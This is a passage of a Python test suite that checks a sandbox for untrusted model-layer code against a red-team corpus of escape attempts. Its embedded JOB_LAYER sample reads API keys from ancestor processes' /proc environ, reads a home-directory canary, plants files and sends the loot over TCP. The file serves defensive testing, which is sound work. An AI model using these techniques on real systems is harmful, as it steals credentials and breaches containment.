"""The OS sandbox around candidate code (asiarch.dispatch.sandbox), against a red-team corpus.

tests/layers/redteam/escape_*.py are hostile layers: each tries one way out (the head's API key
through /proc, its memory, a file in the head's home, a file planted in the project, the home,
another candidate's directory or /tmp, a daemon that outlives the check, a fork bomb, a TCP
connection to the head's loopback, a signal to the head) and sends what it found every way it
can (a file beside the head's, a TCP connection, its error message). Each runs through the real
pre-flight runner with the static check SKIPPED (head and child), so that only the sandbox
stands between the layer and the head: a head process is started with a canary OPENAI_API_KEY in
its environment and a canary file in its home, and the test asserts that no canary appears in
any output, report, file or connection, no marker appears outside the sandbox, and no process
survives. Each layer runs again with the defence off (sandbox "none") and the test asserts the
attack WORKS there: that is what shows each containment test can fail.

Run ``python -m tests.search.test_sandbox`` for the pre-flight time with and without the sandbox.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from asiarch.config import ClusterConfig, ConfigError, TrainConfig, from_dict
from asiarch.dispatch import sandbox as sb
from asiarch.dispatch.render import JobScriptSpec, Raw, render_job_script, torchrun_command
from asiarch.job.contract import REDACTED, AttemptFiles, redact, secret_values
from asiarch.search.preflight import PREFLIGHT_MAX_PROCS, PreflightReport, redact_report
from tests.conftest import ROOT, check_golden

REDTEAM = Path(__file__).resolve().parents[1] / "layers" / "redteam"
LAYERS = Path(__file__).resolve().parents[1] / "layers"
CORPUS = sorted(p.stem for p in REDTEAM.glob("escape_*.py"))
BWRAP = sb.bwrap_problem() is None
needs_bwrap = pytest.mark.skipif(not BWRAP, reason=f"bubblewrap cannot run here: {sb.bwrap_problem()}")

# The head of a red-team run: the real pre-flight runner, with the static check switched off in the
# head and in the child (--no-static), so that only the sandbox contains the layer.
HEAD = r'''
import json, os, signal, sys
signalled = []
signal.signal(signal.SIGUSR1, lambda *a: signalled.append(1))
import asiarch.search.preflight as pf
real = pf.run_sandboxed
pf.static_check = lambda source: []
pf.run_sandboxed = lambda argv, **kw: real(list(argv) + ["--no-static"], **kw)
layer, kind, targets = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
targets["head_pid"] = os.getpid()
source = open(layer).read().replace("REDTEAM = {}", "REDTEAM = " + json.dumps(targets), 1)
report = pf.run_preflight(source, sandbox=kind, timeout_s=90, complexity=False, filename=os.path.basename(layer))
print(json.dumps({"report": report.to_dict(), "signalled": bool(signalled)}))
'''


# ----------------------------------------------------------------------------------
# the composition: pure, checked word by word


def _spec(**kw) -> sb.SandboxSpec:
    base = dict(kind="bwrap", cwd="/w/attempt-1", env=(("OMP_NUM_THREADS", "1"),), read_only=("/venv", "/w/layer.py"),
                writable=("/w", "/w/attempt-1"), protected=("/w/attempt-1/spec.json",), limit_python="/venv/bin/python")
    base.update(kw)
    return sb.SandboxSpec(**base)


def test_bwrap_argv_namespaces_environment_and_mount_order():
    argv = sb.bwrap_argv(_spec(), ["python", "-m", "x"])
    for flag in ("--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent", "--new-session",
                 "--clearenv"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL" and "--share-net" not in argv
    assert argv[argv.index("--setenv") + 1:argv.index("--setenv") + 3] == ["OMP_NUM_THREADS", "1"]
    assert ["--proc", "/proc"] == argv[argv.index("--proc"):argv.index("--proc") + 2]
    assert argv[argv.index("--tmpfs") - 2] == "--size" and argv[argv.index("--tmpfs") + 1] == "/tmp"
    # most general first: /w writable, then the layer inside it read-only; the spec protected last
    order = [(argv[i], argv[i + 1]) for i in range(len(argv) - 1)
             if argv[i] in ("--bind", "--ro-bind", "--ro-bind-try") and argv[i + 1].startswith(("/w", "/venv"))]
    assert order == [("--ro-bind-try", "/venv"), ("--bind", "/w"), ("--ro-bind-try", "/w/layer.py"),
                     ("--bind", "/w/attempt-1"), ("--ro-bind", "/w/attempt-1/spec.json")]
    # no home, no /etc beyond the loader's and lookups' files
    binds = {argv[i + 1] for i in range(len(argv) - 1) if argv[i].startswith("--ro-bind")}
    assert not binds & {"/home", "/root", "/etc", "/", "/run", "/var"} and "/usr" in binds
    # after --chdir: the process-limit shim execs the command
    tail = argv[argv.index("--") + 1:]
    assert tail[:4] == ["/venv/bin/python", "-I", "-S", "-c"] and tail[5:] == ["256", "python", "-m", "x"]
    assert "RLIMIT_NPROC" in tail[4]


def test_bwrap_argv_host_network_devices_and_pid_1():
    argv = sb.bwrap_argv(_spec(host_network=True, devices=("/dev/nvidia0",), as_pid_1=True, info_fd=9), ["t"])
    assert "--share-net" in argv and "--as-pid-1" in argv and argv[argv.index("--info-fd") + 1] == "9"
    i = argv.index("--dev-bind-try")
    assert argv[i:i + 3] == ["--dev-bind-try", "/dev/nvidia0", "/dev/nvidia0"] and i > argv.index("--dev")


def test_apptainer_argv_flags_and_binds():
    spec = _spec(kind="apptainer", executable="apptainer", image="/img/job.sif", gpu=True, limit_python="python3")
    argv = sb.apptainer_argv(spec, ["torchrun"])
    assert argv[:8] == ["apptainer", "exec", "--containall", "--cleanenv", "--no-home", "--net", "--network", "none"]
    assert "--nv" in argv and argv[argv.index("--pwd") + 1] == "/w/attempt-1"
    binds = [argv[i + 1] for i, a in enumerate(argv) if a == "--bind"]
    assert binds == ["/venv:/venv:ro", "/w:/w", "/w/layer.py:/w/layer.py:ro", "/w/attempt-1:/w/attempt-1",
                     "/w/attempt-1/spec.json:/w/attempt-1/spec.json:ro"]
    assert argv[argv.index("/img/job.sif") + 1:][:2] == ["python3", "-I"] and argv[-1] == "torchrun"
    several = sb.apptainer_argv(_spec(kind="apptainer", image="/i.sif", host_network=True), ["t"])
    assert "--net" not in several and "--network" not in several


def test_spec_refuses_what_it_cannot_run():
    with pytest.raises(ValueError, match="'bwrap', 'apptainer'"):
        sb.SandboxSpec("none", cwd="/")
    with pytest.raises(ValueError, match="needs an image"):
        sb.SandboxSpec("apptainer", cwd="/")


def test_resolve_kind_auto_apptainer_none_and_a_clear_refusal():
    works, broken = (lambda: None), (lambda: "bwrap is not installed (no bwrap on PATH)")
    assert sb.resolve_kind("auto", probe=works) == "bwrap"
    assert sb.resolve_kind("auto", container_image="/i.sif", probe=broken) == "apptainer"
    assert sb.resolve_kind("none", probe=broken) == "none"
    with pytest.raises(sb.SandboxUnavailable) as e:
        sb.resolve_kind("auto", probe=broken)
    msg = str(e.value)
    assert "apt-get install bubblewrap" in msg and "sandbox = 'none'" in msg and "container_image" in msg
    with pytest.raises(ValueError, match="one of 'auto', 'bwrap', 'apptainer', 'none'"):
        sb.resolve_kind("docker")


@pytest.mark.parametrize("data, needle", [
    ({"cluster": {"sandbox": "chroot"}}, "cluster.sandbox: 'chroot' is not one of 'auto', 'bwrap', 'apptainer', 'none'"),
    ({"cluster": {"sandbox": "apptainer"}}, "cluster.sandbox = 'apptainer' needs cluster.container_image"),
    ({"cluster": {"sandbox": "bwrap", "container_image": "/i.sif"}}, "use sandbox = 'apptainer'"),
])
def test_config_key_is_validated(data, needle):
    with pytest.raises(ConfigError) as e:
        from_dict(data)
    assert needle in str(e.value)
    assert from_dict({}).cluster.sandbox == "auto"


def test_interpreter_paths_never_bind_a_home_or_the_root():
    paths = sb.interpreter_paths()
    home = str(Path.home().resolve())
    assert paths and all(p not in ("/", home, "/home", "/root") for p in paths)
    assert any(Path(sys.executable).resolve().is_relative_to(p) for p in paths)


# ----------------------------------------------------------------------------------
# the job script: rendered from the spec, golden, valid bash

def _job_sandbox(**kw) -> sb.SandboxSpec:
    base = dict(kind="bwrap", cwd="/scratch/exp/candidates/00003-delta/attempt-1",
                env=(("HOME", "/tmp"), ("OMP_NUM_THREADS", "1"), ("PYTHONPATH", "/opt/asiarch"), ("TMPDIR", "/tmp")),
                read_only=("/opt/venv", "/opt/asiarch/asiarch"),
                writable=("/scratch/exp/candidates/00003-delta/attempt-1", "/scratch/exp/candidates/00003-delta"),
                protected=("/scratch/exp/candidates/00003-delta/layer.py",), max_procs=sb.JOB_MAX_PROCS,
                devices=sb.GPU_DEVICES, limit_python="/opt/venv/bin/python")
    base.update(kw)
    return sb.SandboxSpec(**base)


def _job_script(sandbox: sb.SandboxSpec, attempt: str = "/scratch/exp/candidates/00003-delta/attempt-1") -> str:
    return render_job_script(JobScriptSpec(
        run_key="demo-c00003-a1", attempt_dir=attempt,
        command=torchrun_command("/opt/venv/bin/python", 2, f"{attempt}/spec.json"),
        env=(("PYTHONUNBUFFERED", "1"), ("OMP_NUM_THREADS", "1")), modules=("cuda/12.4",), sandbox=sandbox))


def test_sandboxed_job_script_golden_and_valid_bash(tmp_path):
    text = _job_script(_job_sandbox())
    check_golden("job-sandboxed.sh", text)
    script = tmp_path / "job.sh"
    script.write_text(text)
    assert subprocess.run(["bash", "-n", str(script)]).returncode == 0
    assert "exec " not in text.split("asiarch_run=")[1]  # backgrounded, so TERM/HUP can be passed on
    assert "--as-pid-1 --info-fd 9" in text and "for asiarch_dev in /dev/nvidia*; do" in text


@pytest.mark.parametrize("fake_bwrap, words, code", [
    (None, "bubblewrap (bwrap) is not installed", 127),
    ("echo 'bwrap: No permissions to create new namespace' >&2; exit 1", "cannot create a sandbox", 126),
])
def test_a_node_without_a_working_bwrap_gets_a_clear_message(tmp_path, fake_bwrap, words, code):
    """The head checks bwrap where it runs; a compute node may lack it or forbid user namespaces."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("hostname", "date", "mktemp", "mkdir", "rm", "sed", "cat"):
        if shutil.which(tool):
            (bin_dir / tool).symlink_to(shutil.which(tool))
    if fake_bwrap:
        (bin_dir / "bwrap").write_text(f"#!/bin/sh\n{fake_bwrap}\n")
        (bin_dir / "bwrap").chmod(0o755)
    attempt = tmp_path / "attempt-1"
    attempt.mkdir()
    script = tmp_path / "job.sh"
    script.write_text(_job_script(_job_sandbox(cwd=str(attempt), writable=(str(attempt),), protected=()), str(attempt))
                      .replace("module load cuda/12.4\n", ""))
    out = subprocess.run(["/bin/bash", str(script)], env={"PATH": str(bin_dir)}, capture_output=True, text=True,
                         timeout=30)
    assert out.returncode == code and words in out.stderr and "cluster.sandbox = 'none'" in out.stderr, out.stderr


def test_job_script_renders_only_bwrap_and_checks_device_globs():
    with pytest.raises(ValueError, match="only"):
        _job_script(_job_sandbox(kind="apptainer", image="/i.sif"))
    with pytest.raises(ValueError, match="device node glob"):
        _job_script(_job_sandbox(devices=("/dev/$(id)",)))


def test_attempt_sandbox_for_one_and_several_nodes(tmp_path):
    base = dict(train=TrainConfig(), python=sys.executable, attempt_dir=tmp_path / "a", checkpoint_path=str(tmp_path / "c.pt"),
                protected=(tmp_path / "layer.py",), env=(("OMP_NUM_THREADS", "1"), ("TMPDIR", Raw('"$S"'))))
    one = sb.attempt_sandbox(ClusterConfig(sandbox="bwrap" if BWRAP else "none"), **base)
    if BWRAP:
        env = dict(one.env)
        assert env["TMPDIR"] == "/tmp" and env["HOME"] == "/tmp" and env["GLOO_SOCKET_IFNAME"] == "lo"
        assert not one.host_network and str(tmp_path) in one.writable and sb.package_dir() in one.read_only
    several = sb.attempt_sandbox(ClusterConfig(scheduler="slurm", nodes=2, container_image=str(tmp_path / "i.sif")),
                                 **base)
    assert several.kind == "apptainer" and several.host_network and "GLOO_SOCKET_IFNAME" not in dict(several.env)
    assert sb.attempt_sandbox(ClusterConfig(sandbox="none"), **base) is None


# ----------------------------------------------------------------------------------
# redaction


def test_secret_values_and_redact():
    env = {"OPENAI_API_KEY": "sk-abcdef0123456789", "MY_LLM": "tok-0123456789-x", "SHORT_KEY": "abc",
           "PATH": "/usr/bin:/bin"}
    values = secret_values(env, ("MY_LLM",))
    assert values == ("sk-abcdef0123456789", "tok-0123456789-x")  # longest first; short and plain ones not
    text = "key sk-abcdef0123456789 and tok-0123456789-x in /usr/bin"
    assert redact(text, values) == f"key {REDACTED} and {REDACTED} in /usr/bin"


def test_report_redaction_covers_every_text():
    from asiarch.search.preflight import CheckResult

    key = "sk-redact-me-0123456789"
    report = PreflightReport(False, [CheckResult("construct", False, f"raised {key}", {"message": [key]})], 1.0,
                             stderr_tail=f"Traceback ... {key}")
    clean = redact_report(report, (key,))
    assert key not in clean.to_json() and REDACTED in clean.reason and REDACTED in clean.stderr_tail
    assert clean.checks[0].figures == {"message": [REDACTED]}


def test_the_llm_client_never_sends_a_secret_value(monkeypatch):
    """The last line: whatever a prompt holds, no secret value of the head's environment is sent."""
    from asiarch.propose.llm.client import LLMClient, LLMSettings
    from tests.llm_server import FakeLLMServer, Step

    key = "sk-client-canary-" + uuid.uuid4().hex
    monkeypatch.setenv("OPENAI_API_KEY", key)
    with FakeLLMServer() as srv:
        srv.default("m", Step.reply("ok"))
        client = LLMClient(LLMSettings(base_url=srv.url, model="m"), sleep=lambda s: None)
        client.chat("engineer", [{"role": "user", "content": f"the job failed: KeyError {key} in forward"}])
        sent = json.dumps([{"messages": r["messages"], "body": r["body"]} for r in srv.requests])
        headers = {k.lower(): v for k, v in srv.requests[0]["headers"].items()}
        assert headers["authorization"] == f"Bearer {key}"  # where the key belongs, and only there
    assert key not in sent and REDACTED in sent


def test_a_job_error_is_redacted_before_it_is_stored(tmp_path, monkeypatch):
    """ingest reads the job's error and traceback from its result file: the key never comes out."""
    from asiarch.config import Config
    from asiarch.dispatch.base import JobState
    from asiarch.job import result as rf
    from asiarch.layout import ExperimentDir
    from asiarch.search.ingest import ingest_attempt
    from asiarch.search.messages import outcome_line
    from asiarch.store import Store

    key = "sk-ingest-canary-" + uuid.uuid4().hex
    monkeypatch.setenv("OPENAI_API_KEY", key)
    exp = ExperimentDir(tmp_path)
    store = Store.open(exp.db)
    cid = store.add_candidate(name="leaky", code="x = 1", code_sha256="s", origin="test")
    paths = exp.attempt(cid, "leaky", 1)
    paths.dir.mkdir(parents=True)
    aid = store.add_attempt(cid, 1, "k", exp.relative(paths.dir), "s")
    record = rf.ResultRecord(experiment="e", candidate_id=cid, attempt=1, run_key="k", code_sha256="s",
                             status="failed", error=f"RuntimeError: found {key}", traceback=f"Traceback: {key}",
                             curve=rf.Curve(step=[], tokens=[], loss=[], lr=[], time=[]), config={}, env={})
    rf.write_result(paths.result, record)
    outcome = ingest_attempt(store, exp, Config(), store.attempt(aid), JobState.FAILED)
    assert key not in outcome.error + outcome_line(outcome) and REDACTED in outcome.error
    (paths.result).unlink()
    paths.log.write_text(f"Traceback (most recent call last):\nRuntimeError: {key}\n")
    outcome = ingest_attempt(store, exp, Config(), store.attempt(aid), JobState.FAILED)
    assert key not in outcome.error + outcome_line(outcome) and REDACTED in outcome.error


# ----------------------------------------------------------------------------------
# the red-team corpus through the pre-flight runner


class Listener:
    """A TCP service on the head's loopback that keeps whatever reaches it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    while chunk := conn.recv(65536):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.sock.close()


@dataclass
class Run:
    """What one red-team run left, everywhere the test can look."""

    name: str
    kind: str
    report: dict
    signalled: bool
    head_out: str
    drop: dict
    received: str
    markers: list = field(default_factory=list)   # planted files found outside the sandbox
    survivors: list = field(default_factory=list)  # pids still carrying the daemon's marker

    @property
    def reason(self) -> str:
        return PreflightReport.from_dict(self.report).reason

    def everything(self) -> str:
        return "\n".join([json.dumps(self.report), self.head_out, *self.drop.values(), self.received])


def _pids_with(marker: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    pids.append(int(entry))
            except OSError:
                pass
    return pids


class Redteam:
    """The canaries and targets of one test: a key in the head's environment, a file in its home, the
    places a layer must not reach, the listener; cleaned up after, whatever the sandbox did."""

    def __init__(self, base: Path, home: Path, key: str):
        tag = uuid.uuid4().hex[:12]
        self.key, self.file_text = key, f"redteam-home-canary-{tag}"
        self.base, self.home = base, home
        self.home_canary = home / f".asiarch-redteam-canary-{tag}"
        self.home_canary.write_text(self.file_text)
        other = base / "exp" / "candidates" / "00002-other"
        other.mkdir(parents=True, exist_ok=True)
        self.targets = {"needle": key, "home_canary": str(self.home_canary),
                        "project_marker": str(ROOT / f".asiarch-redteam-{tag}"),
                        "home_marker": str(home / f".asiarch-redteam-{tag}"),
                        "sibling_marker": str(other / f"forged-{tag}.h5"),
                        "tmp_marker": f"/tmp/asiarch-redteam-{tag}", "daemon_marker": f"asiarch-redteam-daemon-{tag}"}
        self.marker_paths = [Path(self.targets[k]) for k in ("project_marker", "home_marker", "sibling_marker",
                                                             "tmp_marker")]
        self.marker_paths.append(ROOT / "asiarch" / Path(self.targets["project_marker"]).name)

    def head_env(self) -> dict:
        """The head's whole environment (nothing of this machine's): the canary key is in it from the start,
        so it is in /proc/<head>/environ, as a real key would be."""
        return {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(self.home), "LANG": "C.UTF-8",
                "PYTHONDONTWRITEBYTECODE": "1", "OPENAI_API_KEY": self.key}

    def run(self, name: str, kind: str, *, user_prefix: list[str] | None = None, drop: Path | None = None) -> Run:
        drop = drop or Path(tempfile.mkdtemp(prefix="drop-", dir=self.base))
        listener = Listener()
        targets = dict(self.targets, name=name, drop=str(drop), port=listener.port)
        argv = (user_prefix or []) + [sys.executable, "-c", HEAD, str(REDTEAM / f"{name}.py"), kind, json.dumps(targets)]
        try:
            out = subprocess.run(argv, env=self.head_env(), capture_output=True, text=True, timeout=240, cwd="/")
            time.sleep(0.5)  # a daemon's heartbeat, a late connection
        finally:
            listener.close()
        assert out.returncode == 0, f"the head itself failed ({out.returncode}): {out.stderr[-3000:]}"
        data = json.loads(out.stdout.strip().splitlines()[-1])
        files = {p.name: p.read_text(errors="replace") for p in drop.iterdir()}
        return Run(name, kind, data["report"], data["signalled"], out.stdout + out.stderr, files,
                   listener.received.decode(errors="replace"), [str(p) for p in self.marker_paths if p.exists()],
                   _pids_with(self.targets["daemon_marker"]))

    def cleanup(self) -> None:
        for pid in _pids_with(self.targets["daemon_marker"]):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        for p in self.marker_paths + [self.home_canary]:
            p.unlink(missing_ok=True)


@pytest.fixture
def redteam(tmp_path):
    team = Redteam(tmp_path, Path(pwd.getpwuid(os.getuid()).pw_dir), "sk-redteam-canary-" + uuid.uuid4().hex)
    try:
        yield team
    finally:
        team.cleanup()


def assert_contained(run: Run, team: Redteam) -> None:
    """Nothing got out: no canary anywhere, nothing planted, nothing left running, the head untouched."""
    assert team.key not in run.everything() and team.file_text not in run.everything()
    assert REDACTED not in json.dumps(run.report), "the key reached the layer (the head only redacted it)"
    assert run.drop == {} and run.received == "", (run.drop, run.received)
    assert run.markers == [] and run.survivors == [] and not run.signalled


# what each attack achieves with the defence off (the sandbox "none"): the evidence it worked
def _leaked_key(run, team):
    return team.key in "".join(run.drop.values()) + run.received


WORKS_UNSANDBOXED = {
    "escape_ppid_environ": _leaked_key,
    "escape_proc_scan": _leaked_key,
    "escape_open_no_os": _leaked_key,
    "escape_linecache": _leaked_key,
    "escape_warnings": _leaked_key,
    "escape_proc_mem": _leaked_key,
    "escape_home_canary": lambda run, team: team.file_text in "".join(run.drop.values()),
    "escape_write_project": lambda run, team: any(m.endswith(Path(team.targets["project_marker"]).name)
                                                  for m in run.markers),
    "escape_write_home": lambda run, team: team.targets["home_marker"] in run.markers,
    "escape_write_sibling": lambda run, team: team.targets["sibling_marker"] in run.markers,
    "escape_write_tmp": lambda run, team: team.targets["tmp_marker"] in run.markers,
    "escape_tcp_loopback": lambda run, team: "tcp-probe" in run.received,
    "escape_fork_bomb": lambda run, team: "forked 200 (no error)" in run.reason,
    "escape_signal_head": lambda run, team: run.signalled,
    "escape_daemon": lambda run, team: run.report["ok"] and run.survivors != [],
}


def test_the_corpus_is_complete():
    assert len(CORPUS) >= 10 and set(CORPUS) == set(WORKS_UNSANDBOXED)


@pytest.mark.slow
@needs_bwrap
@pytest.mark.parametrize("name", CORPUS)
def test_redteam_layer_is_contained_and_works_without_the_sandbox(redteam, tmp_path, name):
    # the two runs at once (the suite's time), each with its own canaries and markers; the fork bomb alone
    # runs after: its unsandboxed half would take the processes the sandboxed half is counted against
    bare_team = Redteam(tmp_path / "bare", redteam.home, "sk-redteam-canary-" + uuid.uuid4().hex)
    try:
        if name == "escape_fork_bomb":
            run, bare = redteam.run(name, "bwrap"), bare_team.run(name, "none")
        else:
            with ThreadPoolExecutor(2) as pool:
                sandboxed = pool.submit(redteam.run, name, "bwrap")
                bare = bare_team.run(name, "none")
                run = sandboxed.result()
        _judge_redteam_runs(name, run, redteam, bare, bare_team)
    finally:
        bare_team.cleanup()


def _judge_redteam_runs(name: str, run: Run, redteam: Redteam, bare: Run, bare_team: Redteam) -> None:
    assert_contained(run, redteam)
    if name == "escape_daemon":
        assert run.report["ok"], run.reason  # a layer that passes every check: its daemon still ends with it
    else:
        assert run.reason.startswith("construct: ") and f"redteam {name}" in run.reason, run.reason  # it ran
    if name == "escape_fork_bomb":
        forked = int(run.reason.split("forked ")[1].split()[0])
        assert forked < PREFLIGHT_MAX_PROCS, run.reason

    # the defence off: the same layer must do its harm
    assert WORKS_UNSANDBOXED[name](bare, bare_team), (bare.reason, bare.drop, bare.received, bare.markers)
    # and even then the key never comes out of the head: the report is redacted
    assert bare_team.key not in json.dumps(bare.report) + bare.head_out


@pytest.mark.slow
@needs_bwrap
def test_the_sandbox_holds_for_a_normal_user(tmp_path):
    """Clusters run asiarch as a normal user with unprivileged user namespaces: create one, run the
    pre-flight as that user, see a good layer pass and hostile ones contained (the process limit is
    RLIMIT_NPROC in the user namespace there, not the root-only pids cgroup)."""
    if os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("setpriv") or not shutil.which("unshare"):
        pytest.skip("needs root with useradd, setpriv and unshare to create and become a normal user")
    name = f"asiarch-rt{os.getpid() % 100000}"
    made = subprocess.run(["useradd", "-m", "-s", "/bin/sh", name], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"useradd failed: {made.stderr.strip()}")
    try:
        user = pwd.getpwnam(name)
        base = Path(tempfile.mkdtemp(prefix="asiarch-rt-", dir="/tmp"))
        os.chown(base, user.pw_uid, user.pw_gid)
        # The interpreter lives under /root (mode 700) here: in a private mount namespace, /root becomes a
        # tmpfs holding only the interpreter's tree, so the user can run it; nothing else changes.
        pyenv = next((p for p in Path(sys.executable).resolve().parents if p.parent == Path("/root")), None)
        mounts = (f"mkdir -p {base}/.py && mount --bind {pyenv} {base}/.py && mount -t tmpfs -o mode=755 tmpfs /root"
                  f" && mkdir -p {pyenv} && mount --bind {base}/.py {pyenv} && " if pyenv else "")
        wrapper = base / "as-user.sh"
        wrapper.write_text(f"#!/bin/sh\nset -e\n{mounts}exec setpriv --reuid {user.pw_uid} --regid {user.pw_gid} "
                           f"--clear-groups -- \"$@\"\n")
        wrapper.chmod(0o755)
        prefix = ["unshare", "--mount", "--propagation", "private", str(wrapper)]
        probe = subprocess.run(prefix + [sys.executable, "-c", "from asiarch.dispatch.sandbox import bwrap_problem; "
                               "print(bwrap_problem() or 'ok')"], capture_output=True, text=True, timeout=60)
        if probe.returncode != 0 or probe.stdout.strip() != "ok":
            pytest.skip(f"bubblewrap does not run as a normal user here: {(probe.stdout + probe.stderr).strip()}")
        team = Redteam(base, Path(user.pw_dir), "sk-redteam-user-canary-" + uuid.uuid4().hex)
        os.chown(team.home_canary, user.pw_uid, user.pw_gid)
        try:
            for layer in ("escape_ppid_environ", "escape_home_canary", "escape_write_home", "escape_fork_bomb",
                          "escape_daemon"):
                drop = Path(tempfile.mkdtemp(prefix="drop-", dir=base))
                os.chown(drop, user.pw_uid, user.pw_gid)
                run = team.run(layer, "bwrap", user_prefix=prefix, drop=drop)
                assert_contained(run, team)
                if layer == "escape_fork_bomb":
                    assert int(run.reason.split("forked ")[1].split()[0]) < PREFLIGHT_MAX_PROCS, run.reason
                if layer == "escape_daemon":
                    assert run.report["ok"], run.reason  # it works: the whole battery passes as the user
        finally:
            team.cleanup()
    finally:
        subprocess.run(["userdel", "-r", name], capture_output=True)
        shutil.rmtree(base, ignore_errors=True)


# ----------------------------------------------------------------------------------
# a training job in the sandbox


JOB_LAYER = '''
import os, socket, torch
from torch import nn

TARGETS = {targets}
found = []
pid = os.getppid()
for _ in range(8):  # every ancestor's environment: the payload's holds the key (only the test's needle is kept)
    try:
        env = open(f"/proc/{pid}/environ", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        found += [w for w in env.split() if TARGETS["needle"] in w]
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
try:
    found.append(open(TARGETS["canary"]).read())
except OSError as exc:
    found.append(repr(exc))
for path in TARGETS["write"]:
    try:
        open(path, "w").write("planted " + " ".join(found))
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2) as s:
        s.sendall(" ".join(found).encode())
except OSError:
    pass

class DeltaNet(nn.Module):
    def __init__(self, hidden_size=64, num_heads=2, layer_idx=None, **kwargs):
        super().__init__()
        self.proj = nn.Linear(hidden_size, hidden_size)
    def forward(self, hidden_states, attention_mask=None, past_key_values=None, use_cache=False, **kwargs):
        T = hidden_states.shape[1]
        c = torch.cumsum(self.proj(hidden_states), 1) / torch.arange(1, T + 1).view(1, T, 1)
        return c, None, past_key_values
'''


@pytest.mark.slow
@needs_bwrap
@pytest.mark.parametrize("kind", ["bwrap", "none"])
def test_a_training_job_trains_in_the_sandbox_and_its_layer_is_contained(tmp_path, redteam, kind):
    """A real 2-rank torchrun job through the job script: with the sandbox it trains (result and
    checkpoint written) while its layer reaches nothing outside; with sandbox "none" the same layer
    reads the key from the payload's environment and plants files."""
    from asiarch.dispatch.attempt import write_attempt_files
    from asiarch.job import result as rf
    from asiarch.job.contract import AttemptFiles

    cand = tmp_path / "exp" / "candidates" / "00001-leaky"
    cand.mkdir(parents=True)
    listener = Listener()
    # ... and its own candidate's directory, where a planted attempt-2 -> ../.. once had the head bind the
    # experiment directory writable for the next attempt: only checkpoints/ there is the job's
    planted = [redteam.targets["home_marker"], redteam.targets["sibling_marker"], redteam.targets["tmp_marker"],
               redteam.targets["project_marker"], str(cand / "planted-in-its-candidate-directory")]
    layer = cand / "layer.py"
    # the payload's /proc/PID/environ holds the key: it is this job script's parent
    layer.write_text(JOB_LAYER.replace("{targets}", repr({"needle": redteam.key, "canary": str(redteam.home_canary),
                                                          "write": planted, "port": listener.port})))
    paths = AttemptFiles(cand / "attempt-1")
    ident = {"experiment": "t", "candidate_id": 1, "attempt": 1, "run_key": "t-c00001-a1", "code_sha256": "x"}
    req = write_attempt_files(paths, layer_path=layer, identity=ident, train=TrainConfig(steps=4, nproc=2, batch_size=8,
                              log_every=2, warmup_steps=1), cluster=ClusterConfig(sandbox=kind), class_name="DeltaNet",
                              python=sys.executable)
    # a payload that started with the key (as the head's jobs do locally) and scrubs it from the job's
    # environment, as asiarch.dispatch.payload does: its own /proc/PID/environ still holds it
    payload = ("import os, subprocess, sys; env = {k: v for k, v in os.environ.items() if k != 'OPENAI_API_KEY'}; "
               "sys.exit(subprocess.call(['bash', sys.argv[1]], env=env))")
    try:
        out = subprocess.run([sys.executable, "-c", payload, str(req.script)], env=redteam.head_env(),
                             capture_output=True, text=True, timeout=300)
    finally:
        listener.close()
    log = out.stdout + out.stderr
    assert out.returncode == 0, log[-3000:]
    rec = rf.read_result(paths.result)
    assert rec.status == "ok" and rec.steps_done == 4
    # the one directory of the candidate's it writes (the checkpoint is removed once the run is done)
    assert json.loads(paths.spec.read_text())["checkpoint_path"] == str((cand / "checkpoints" / "checkpoint.pt").resolve())
    found = [p for p in planted if Path(p).exists()]
    if kind == "bwrap":
        assert found == [] and listener.received == b"", found
        assert redteam.key not in log and redteam.file_text not in log
        assert "sandbox" in req.script.read_text()
    else:
        assert found, "the layer planted nothing without the sandbox"  # the attack works there
        assert redteam.key.encode() in listener.received and redteam.file_text.encode() in listener.received


# ----------------------------------------------------------------------------------
# python -m tests.search.test_sandbox: the pre-flight's time with and without the sandbox


def bench(repeats: int = 3) -> None:
    """Print the pre-flight time per good layer of tests/layers, in bubblewrap and bare ('none')."""
    from statistics import median

    from asiarch.search.preflight import run_preflight

    layers = sorted(LAYERS.glob("good_*.py"))
    print(f"pre-flight wall time, median of {repeats}, seconds (2 threads max; bwrap {'works' if BWRAP else 'absent'})")
    print(f"{'layer':<24} {'bwrap':>7} {'none':>7} {'overhead':>9}")
    overheads = []
    for path in layers:
        source = path.read_text()
        times = {}
        for kind in ("bwrap", "none"):
            runs = []
            for _ in range(repeats):
                t0 = time.perf_counter()
                report = run_preflight(source, sandbox=kind, filename=path.name)
                runs.append(time.perf_counter() - t0)
                if not report.ok:  # the figure is the time either way; say which run failed and why
                    print(f"  ({path.stem}, {kind}: {report.reason[:100]})")
            times[kind] = median(runs)
        overheads.append(times["bwrap"] - times["none"])
        print(f"{path.stem:<24} {times['bwrap']:7.2f} {times['none']:7.2f} {times['bwrap'] - times['none']:+9.2f}")
    print(f"median overhead {median(overheads):+.2f} s per pre-flight")
    for kind in ("bwrap", "none"):  # the bare cost of starting a sandbox: python -c pass
        with tempfile.TemporaryDirectory() as d:
            from asiarch.search.preflight import child_env, run_sandboxed

            runs = [run_sandboxed([sys.executable, "-c", "pass"], cwd=d, env=child_env(workdir=d), timeout_s=30,
